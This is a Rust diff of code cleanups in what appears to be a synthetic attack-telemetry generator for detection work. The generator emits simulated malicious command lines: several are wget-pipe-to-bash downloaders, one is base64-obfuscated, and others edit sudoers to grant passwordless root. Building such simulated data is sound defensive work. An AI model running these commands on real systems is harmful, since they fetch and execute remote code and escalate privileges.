@@ -499,7 +499,7 @@ impl Generator {
                 role,
                 ip,
                 next_pid: rng.range_u32(700, 3000),
-                kernel: *rng.pick(KERNELS),
+                kernel: rng.pick_str(KERNELS),
             });
         }
         let mut gen = Generator {
@@ -1754,6 +1754,7 @@ impl Generator {
 
     /// A malicious process: unsigned when it is a dropped binary, and often
     /// unusual in geometry, but not always (living off the land).
+    #[allow(clippy::too_many_arguments)]
     fn attacker(
         &mut self,
         host: usize,
@@ -1796,7 +1797,7 @@ impl Generator {
     }
 
     fn web_parent(&mut self) -> &'static str {
-        *self.rng.pick(&[
+        self.rng.pick_str(&[
             "php-fpm8.2",
             "nginx",
             "node",
@@ -1865,7 +1866,7 @@ impl Generator {
                 let (pn, cmd) = match self.rng.below(3) {
                     0 => ("wget", format!("wget -q -O - http://{ip}/{x} | bash")),
                     1 => ("bash", format!("bash -c wget http://{ip}/{x}.sh -O /tmp/.{x}; chmod +x /tmp/.{x}; /tmp/.{x}")),
-                    _ => ("bash", format!("bash -c echo d2dldCAtcU8tIGh0dHA6Ly8xLjIuMy40L3ggfCBiYXNo | base64 -d | bash")),
+                    _ => ("bash", "bash -c echo d2dldCAtcU8tIGh0dHA6Ly8xLjIuMy40L3ggfCBiYXNo | base64 -d | bash".to_owned()),
                 };
                 let pname = self.web_parent();
                 let p = self.attacker(
@@ -2031,9 +2032,8 @@ impl Generator {
                     1 => ("tee", format!("tee -a /etc/sudoers.d/99-{who}")),
                     _ => (
                         "sed",
-                        format!(
-                            "sed -i s/^%sudo.*/%sudo ALL=(ALL:ALL) NOPASSWD: ALL/ /etc/sudoers"
-                        ),
+                        "sed -i s/^%sudo.*/%sudo ALL=(ALL:ALL) NOPASSWD: ALL/ /etc/sudoers"
+                            .to_owned(),
                     ),
                 };
                 let pname = self.web_parent();
@@ -2668,9 +2668,9 @@ mod tests {
             attack_ratio: 0.1,
             hosts: 12,
         });
-        for i in 0..SCENARIOS.len() {
+        for (i, scenario) in SCENARIOS.iter().enumerate() {
             let (proc, steps) = gen.attack(i).expect("a 12-host fleet has every role");
-            assert!(!steps.is_empty(), "{}", SCENARIOS[i].name);
+            assert!(!steps.is_empty(), "{}", scenario.name);
             assert!(!proc.name.is_empty());
         }
     }
